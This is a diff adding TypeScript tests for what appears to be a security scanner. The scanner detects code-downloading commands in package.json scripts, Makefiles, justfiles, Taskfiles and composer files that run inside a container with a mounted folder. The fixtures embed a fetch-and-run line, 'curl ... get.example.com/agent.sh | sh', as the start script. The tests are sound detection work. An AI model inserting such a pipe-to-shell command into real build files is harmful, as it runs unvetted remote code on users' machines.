@@ -23,6 +23,93 @@ async function told(files: Files): Promise<readonly string[]> {
 
 const FOUND = (path: string) => [`command-downloads-code high scripts/run.sh:3 in the mounted file ${path}`];
 
+const EVIL = 'curl -fsSL https://get.example.com/agent.sh | sh';
+const PACKAGE = JSON.stringify({
+  scripts: { prestart: 'node x', start: EVIL, dev: 'npx nodemon x', other: 'make up' },
+});
+
+/** A file of a program that runs the commands in it, and the line of the command that fetches something. */
+const RECIPES: readonly (readonly [command: string, path: string, text: string, line: number])[] = [
+  ['npm start', 'package.json', PACKAGE, 1],
+  ['npm run start', 'package.json', PACKAGE, 1],
+  ['yarn start', 'package.json', PACKAGE, 1],
+  ['pnpm --dir /app start', 'package.json', PACKAGE, 1],
+  ['sh -c "npm ci && npm start"', 'package.json', PACKAGE, 1],
+  ['make -C /app up', 'Makefile', `up: deps\n\techo\ndeps:\n\t${EVIL}\n`, 4],
+  ['just up', 'justfile', `up:\n  ${EVIL}\n`, 2],
+  ['task up', 'Taskfile.yml', `version: "3"\ntasks:\n  up: ['${EVIL}']\n`, 3],
+  ['composer run up', 'composer.json', `{"scripts":{"up":["echo",\n"${EVIL}"]}}`, 2],
+];
+const LANGUAGE = (command: string, options = 'working_dir: /app') =>
+  `services:\n  app:\n    image: node:22\n    volumes: [".:/app"]\n    ${options}\n    command: ${command}\n`;
+
+describe('a file of the repository with commands that a program in a container runs', () => {
+  it.each(RECIPES)('is read in a mounted folder: %s', async (command, path, text, line) => {
+    const found = [`command-downloads-code high ${path}:${line} in the mounted file /app/${path}`];
+    expect(await told({ 'compose.yaml': LANGUAGE(command), [path]: text })).toEqual(found);
+    const run = `docker run -d -v "$PWD:/app" -w /app node:22 ${command}\n`;
+    expect(await told({ 'up.sh': run, [path]: text })).toEqual(found);
+  });
+
+  it.each<[string, Files]>([
+    ['of a part', { 'compose.yaml': LANGUAGE('npm start').replace('".:', '"./web:'), 'web/package.json': PACKAGE }],
+    [
+      'without a folder to work in',
+      { 'compose.yaml': LANGUAGE('npm start', 'tty: true'), 'web/package.json': PACKAGE, 'package.json': PACKAGE },
+    ],
+    [
+      'in a health check',
+      {
+        'compose.yaml': LANGUAGE('tail -f x', 'working_dir: /app\n    healthcheck: { test: npm start }'),
+        'package.json': PACKAGE,
+      },
+    ],
+    [
+      'with an entrypoint',
+      { 'compose.yaml': LANGUAGE('start', 'working_dir: /app\n    entrypoint: [npm]'), 'package.json': PACKAGE },
+    ],
+    [
+      'behind another program',
+      { 'compose.yaml': LANGUAGE('make up'), Makefile: 'up:\n\tnpm start\n', 'package.json': PACKAGE },
+    ],
+    ['behind a script', { 'compose.yaml': LANGUAGE('sh run.sh'), 'run.sh': 'npm start\n', 'package.json': PACKAGE }],
+    [
+      'in a Podman unit',
+      {
+        'a.container': '[Container]\nImage=docker.io/library/node:22\nVolume=.:/app\nWorkingDir=/app\nExec=npm start\n',
+        'package.json': PACKAGE,
+      },
+    ],
+  ])('is read: %s', async (_how, files) => {
+    expect((await told(files)).map((one) => one.split(' ').slice(0, 3).join(' '))).toEqual([
+      `command-downloads-code high ${'web/package.json' in files && !('package.json' in files) ? 'web/' : ''}package.json:1`,
+    ]);
+  });
+
+  it.each<[string, Files]>([
+    ['another script', { 'compose.yaml': LANGUAGE('npm test'), 'package.json': PACKAGE }],
+    ['a program for development', { 'compose.yaml': LANGUAGE('npm run dev'), 'package.json': PACKAGE }],
+    ['another folder', { 'compose.yaml': LANGUAGE('npm start', 'working_dir: /srv'), 'package.json': PACKAGE }],
+    [
+      'a folder without a mount',
+      { 'compose.yaml': LANGUAGE('npm start').replace('".:/app"', '"data:/app"'), 'package.json': PACKAGE },
+    ],
+    ['the arguments of another program', { 'compose.yaml': LANGUAGE('echo npm start'), 'package.json': PACKAGE }],
+    [
+      'an installation',
+      { 'compose.yaml': LANGUAGE('make up'), Makefile: 'up:\n\tnpm install\n\tcurl -fsS http://localhost/health\n' },
+    ],
+  ])('is left alone: %s', async (_how, files) => {
+    expect(await told(files)).toEqual([]);
+  });
+
+  it('is read for the first container only', async () => {
+    const compose = LANGUAGE('npm start');
+    const two = `${compose}${compose.slice(compose.indexOf('\n') + 1).replace('app:', 'worker:')}`;
+    expect(await told({ 'compose.yaml': two, 'package.json': PACKAGE })).toHaveLength(1);
+  });
+});
+
 describe('a script of the repository that a container starts', () => {
   it.each([
     ['in the place of a program', 'volumes: ["./scripts/run.sh:/usr/local/bin/run"]', '/usr/local/bin/run'],
